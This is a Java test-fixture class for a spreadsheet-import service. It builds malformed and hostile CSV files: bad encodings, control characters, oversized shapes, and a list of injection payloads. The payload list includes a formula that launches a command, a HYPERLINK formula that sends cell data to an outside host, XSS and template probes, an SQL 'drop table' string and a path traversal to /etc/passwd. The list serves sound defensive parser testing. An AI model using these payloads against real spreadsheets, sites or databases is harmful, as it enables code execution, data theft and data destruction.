package org.heatwatch.service.platform.spreadsheet;

import static java.nio.charset.StandardCharsets.UTF_16BE;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.heatwatch.service.platform.spreadsheet.HostileFile.ANA;
import static org.heatwatch.service.platform.spreadsheet.HostileFile.LIST;
import static org.heatwatch.service.platform.spreadsheet.HostileFile.read;
import static org.heatwatch.service.platform.spreadsheet.HostileFile.refused;
import static org.heatwatch.service.platform.spreadsheet.UnreadableSpreadsheet.Reason.CELL_TOO_LONG;
import static org.heatwatch.service.platform.spreadsheet.UnreadableSpreadsheet.Reason.DAMAGED;
import static org.heatwatch.service.platform.spreadsheet.UnreadableSpreadsheet.Reason.NOT_A_SPREADSHEET;
import static org.heatwatch.service.platform.spreadsheet.UnreadableSpreadsheet.Reason.ROW_TOO_LONG;
import static org.heatwatch.service.platform.spreadsheet.UnreadableSpreadsheet.Reason.STRAY_CHARACTER;
import static org.heatwatch.service.platform.spreadsheet.UnreadableSpreadsheet.Reason.TOO_LARGE;
import static org.heatwatch.service.platform.spreadsheet.UnreadableSpreadsheet.Reason.TOO_MANY_COLUMNS;
import static org.heatwatch.service.platform.spreadsheet.UnreadableSpreadsheet.Reason.TOO_MANY_ROWS;
import static org.heatwatch.service.platform.spreadsheet.UnreadableSpreadsheet.Reason.UNCLOSED_QUOTE;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.Charset;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;

/** Text files in the wrong encoding, with characters that are no text, with payloads, or without end. */
final class OddTexts {

    private static final Charset WINDOWS = Charset.forName("windows-1252");
    private static final String ZOE = "Full name,E-mail\nZoë Núñez,zoe@example.org\n";
    private static final List<String> ZOE_ROW = List.of("Zoë Núñez", "zoe@example.org");
    private static final byte[] MARK = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};
    private static final byte[] MARK_16 = {(byte) 0xFF, (byte) 0xFE};

    private OddTexts() {
    }

    static List<HostileFile> all() {
        List<HostileFile> files = new ArrayList<>(encodings());
        files.addAll(characters());
        files.addAll(shapes());
        return files;
    }

    private static List<HostileFile> encodings() {
        byte[] utf8 = ZOE.getBytes(UTF_8);
        return List.of(
                text("windows.csv", ZOE.getBytes(WINDOWS), ZOE_ROW),
                text("utf-16-without-mark.csv", ZOE.getBytes(UTF_16LE), ZOE_ROW),
                text("utf-16-other-way-round.csv", ("\uFEFF" + ZOE).getBytes(UTF_16BE), ZOE_ROW),
                refused("utf-8-mark-before-windows.csv", DAMAGED, both(MARK, ZOE.getBytes(WINDOWS))),
                refused("utf-16-mark-before-utf-8.csv", DAMAGED, both(MARK_16, Arrays.copyOf(utf8, utf8.length / 2 * 2 + 1))),
                refused("utf-8-cut-in-a-character.csv", DAMAGED, Arrays.copyOf(utf8, ZOE.substring(0, ZOE.indexOf("ñ")).getBytes(UTF_8).length + 1)),
                refused("utf-8-with-half-a-pair.csv", DAMAGED, both(utf8, new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80})),
                refused("utf-16-with-half-a-pair.csv", DAMAGED, both(MARK_16, (ZOE + "A").getBytes(UTF_16LE), new byte[] {0, (byte) 0xD8, 'B', 0})),
                refused("utf-32.csv", NOT_A_SPREADSHEET, ("\uFEFF" + ZOE).getBytes(Charset.forName("UTF-32LE"))),
                refused("utf-32-other-way-round.csv", NOT_A_SPREADSHEET, ("\uFEFF" + ZOE).getBytes(Charset.forName("UTF-32BE"))),
                text("utf-7.csv", "Full name,E-mail\nZo+AOs- N+APo-ez,zoe@example.org\n".getBytes(UTF_8), List.of("Zo+AOs- N+APo-ez", "zoe@example.org")),
                text("carriage-returns.csv", ZOE.replace('\n', '\r').getBytes(UTF_8), ZOE_ROW),
                text("all-line-ends.csv", (ZOE.replace("\n", "\r\n") + "Ana Ruiz,ana.ruiz@example.org\r\n").getBytes(UTF_8), ZOE_ROW, ANA),
                text("mixed-separators.csv", "Full name,E-mail\nRuiz; Ana,a@example.org\nLee\tPark,l@example.org\n".getBytes(UTF_8),
                        List.of("Ruiz; Ana", "a@example.org"), List.of("Lee\tPark", "l@example.org")),
                text("named-separator.csv", LIST.replace(',', ';').replaceFirst("^", "sep=;\n").getBytes(UTF_8), ANA));
    }

    private static List<HostileFile> characters() {
        List<String> payloads = List.of("=cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.org/?\"&A1)", "+1+1", "-2+3", "@SUM(A1)",
                "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "#{facesContext.externalContext}", "${7*7}",
                "'; drop table person; --", "{{7*7}}", "%n%s%x", "../../etc/passwd");
        List<List<String>> rows = payloads.stream().map(payload -> List.of(payload, "x@example.org")).toList();
        StringBuilder list = new StringBuilder("Full name,E-mail\n");
        payloads.forEach(payload -> list.append('"').append(payload.replace("\"", "\"\"")).append("\",x@example.org\n"));
        return List.of(
                read("payloads.csv", out -> out.write(list.toString().getBytes(UTF_8)), rows),
                text("text-that-turns-round.csv", (LIST + "\u202Ezeuqsav \u2066oiram,m@example.org\n").getBytes(UTF_8), ANA,
                        List.of("zeuqsav oiram", "m@example.org")),
                text("names-without-letters.csv", (LIST + "\u200B\u200D,z@example.org\n").getBytes(UTF_8), ANA, List.of("\u200B\u200D", "z@example.org")),
                refused("nul.csv", STRAY_CHARACTER, (LIST + "Lee\0 Park,l@example.org\n").getBytes(UTF_8)),
                refused("bell.csv", STRAY_CHARACTER, (LIST + "Lee\u0007 Park,l@example.org\n").getBytes(UTF_8)),
                refused("end-of-file.csv", STRAY_CHARACTER, (LIST + "\u001A").getBytes(UTF_8)),
                refused("nothing-but-nul.csv", NOT_A_SPREADSHEET, new byte[5_000_000]));
    }

    private static List<HostileFile> shapes() {
        return List.of(
                refused("40-megabytes.csv", TOO_LARGE, out -> repeat(out, LIST, 40 << 20)),
                refused("one-line-of-9-megabytes.csv", ROW_TOO_LONG, out -> repeat(out, "x", 9 << 20)),
                refused("one-long-cell.csv", CELL_TOO_LONG, (LIST + "x".repeat(32_768) + ",x\n").getBytes(UTF_8)),
                refused("quote-never-closed.csv", UNCLOSED_QUOTE, ("\"" + LIST).getBytes(UTF_8)),
                refused("quote-never-closed-in-9-megabytes.csv", ROW_TOO_LONG, out -> {
                    out.write('"');
                    repeat(out, LIST, 9 << 20);
                }),
                refused("twenty-thousand-columns.csv", TOO_MANY_COLUMNS, (LIST + "x,".repeat(20_000) + "x\n").getBytes(UTF_8)),
                refused("four-hundred-thousand-rows.csv", TOO_MANY_ROWS, out -> repeat(out, LIST, 9 << 20)),
                refused("nothing-but-line-ends.csv", TOO_MANY_ROWS, out -> repeat(out, "\n", 10 << 20)),
                refused("nothing-but-commas.csv", TOO_MANY_ROWS, out -> repeat(out, ",\n", 10 << 20)),
                refused("nothing-but-quotes.csv", CELL_TOO_LONG, out -> repeat(out, "\"", 200_000)),
                text("two-hundred-thousand-blank-rows.csv", (LIST + "\r\n".repeat(200_000)).getBytes(UTF_8), ANA));
    }

    private static void repeat(OutputStream out, String text, int bytes) throws IOException {
        byte[] block = text.repeat((1 << 16) / text.length()).getBytes(UTF_8);
        for (int written = 0; written + block.length <= bytes; written += block.length) {
            out.write(block);
        }
    }

    @SafeVarargs
    private static HostileFile text(String name, byte[] content, List<String>... rows) {
        return read(name, out -> out.write(content), rows);
    }

    private static byte[] both(byte[]... parts) {
        ByteArrayOutputStream whole = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            whole.writeBytes(part);
        }
        return whole.toByteArray();
    }
}
